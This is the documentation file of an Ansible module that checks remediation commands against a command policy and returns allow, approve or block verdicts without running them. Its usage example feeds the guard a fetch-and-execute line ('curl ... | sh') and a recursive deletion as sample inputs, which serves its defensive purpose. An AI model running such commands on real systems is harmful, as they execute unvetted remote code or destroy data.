#!/usr/bin/python
# -*- coding: utf-8 -*-
# Copyright: sentinel.heal contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)

# This module is implemented as the action plugin plugins/action/policy_check.py; this file holds its documentation.

from __future__ import annotations

DOCUMENTATION = r"""
---
module: policy_check
short_description: Ask the command policy what it decides about commands
version_added: 0.1.0
description:
  - Decides each command with the command policy, on the controller, without running anything
    anywhere - C(allow) (runs unattended), C(approve) (a human must approve) or C(block) (never runs) -
    and the strictest decision over all of them.
  - The commands are judged as one plan, in order, with the rules that look at a plan as a whole - a
    plan that leaves the incident's service stopped (its last word on the service is a stop) needs
    approval, and so does every step that removes or empties the service's logs (rules
    C(plan-leaves-service-stopped) and C(plan-removes-logs)). One command is a one-step plan.
  - Commands are parsed, never given to a shell; control characters, non-ASCII characters and shell
    syntax are refused. Anything the policy does not understand needs approval.
  - Rules that bind arguments to an incident (the service's own unit, the pid holding its port, its
    stale pid file, its directories) match only when the incident is given with O(service) or O(failure).
  - The same logic is importable for tests as
    C(ansible_collections.sentinel.heal.plugins.plugin_utils.guard.policy.evaluate_plan(commands, context)).
author:
  - Sentinel Heal Maintainers (@sentinel-heal)
extends_documentation_fragment:
  - ansible.builtin.action_common_attributes
  - ansible.builtin.action_common_attributes.flow
  - sentinel.heal.controller.attributes
options:
  commands:
    description: The commands to decide, as a plan would carry them (for example C(service nginx restart)).
    type: list
    elements: str
    required: true
  service:
    description: The service of the incident; binds rules such as C(service {init_service} restart) to it.
    type: str
  failure:
    description:
      - One failure as returned by M(sentinel.heal.service_check) in C(failures); gives the rules the whole
        incident (port owners, stale pid file, log files, directories, user).
      - Mutually exclusive with O(service).
    type: dict
  policy:
    description: The policy file. Defaults to the policy shipped in the collection (C(policies/default.yml)).
    type: path
seealso:
  - module: sentinel.heal.heal
"""

EXAMPLES = r"""
- name: What would the guard say?
  sentinel.heal.policy_check:
    service: nginx
    commands:
      - service nginx restart
      - rm -rf /var/cache/nginx
      - curl http://example.org/x.sh | sh
  register: guard

- name: Fail when anything would not run unattended
  ansible.builtin.assert:
    that: guard.decision == 'allow'
    fail_msg: "{{ guard.verdicts | rejectattr('decision', 'eq', 'allow') | map(attribute='reason') }}"
"""

RETURN = r"""
decision:
  description: The strictest decision over all commands (C(allow) < C(approve) < C(block)).
  returned: always
  type: str
  sample: block
verdicts:
  description: One verdict per command, in order.
  returned: always
  type: list
  elements: dict
  contains:
    command:
      description: The command as given.
      type: str
    argv:
      description: The arguments it was split into (without a leading bare C(sudo)); empty when it was refused before splitting.
      type: list
      elements: str
    decision:
      description: C(allow), C(approve) or C(block).
      type: str
    reason:
      description: Why, in words.
      type: str
    rule:
      description: The id of the rule that decided, or the check that refused the command (C(charset), C(shell-syntax), ...).
      type: str
    become:
      description: Whether the step would run with privilege escalation.
      type: bool
    policy_version:
      description: Hash of the policy file(s) that decided.
      type: str
  sample:
    - command: service nginx restart
      argv: [service, nginx, restart]
      decision: allow
      reason: start, stop, restart or reload the incident's own service
      rule: service-control
      become: true
      policy_version: 3f1c9a0e5b7d2c41
policy_version:
  description: Hash of the policy file(s) that decided.
  returned: always
  type: str
policy_file:
  description: The policy file that decided.
  returned: always
  type: str
"""
